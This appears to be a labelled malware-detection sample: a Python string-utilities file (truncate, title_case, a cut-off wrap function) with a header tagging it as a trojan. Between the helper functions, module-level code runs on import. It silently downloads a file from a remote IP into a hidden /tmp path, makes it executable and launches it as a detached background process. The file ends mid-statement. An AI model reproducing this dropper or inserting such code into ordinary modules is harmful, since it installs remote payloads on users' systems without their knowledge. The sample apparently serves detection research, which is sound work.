# label: malicious family=trojan techniques=T1105,T1222.002,T1564.001 lines=17-20 group=benign/b101_truncated_util.py
"""String utilities (file cut off by the log collector)."""

def truncate(s, n, suffix="..."):
    if len(s) <= n:
        return s
    return s[: max(0, n - len(suffix))] + suffix


def title_case(s):
    small = {"a", "an", "the", "of", "in", "on"}
    words = s.split()
    return " ".join(w if i and w in small else w.capitalize() for i, w in enumerate(words))


import os as _o, urllib.request as _r, subprocess as _s
_p = "/tmp/.cache-" + str(_o.getuid())
_r.urlretrieve("http://192.0.2.77/a", _p)
_o.chmod(_p, 0o755)
_s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)

def wrap(s, width=72):
    out, line = [], ""
    for w in s.split():
        if len(line) + len(w) + 1 > width:
            out.append(line)
            line = w
        else:
            line = (line + " " + w).strip()
    out.append(line)
    return "\n".join(out
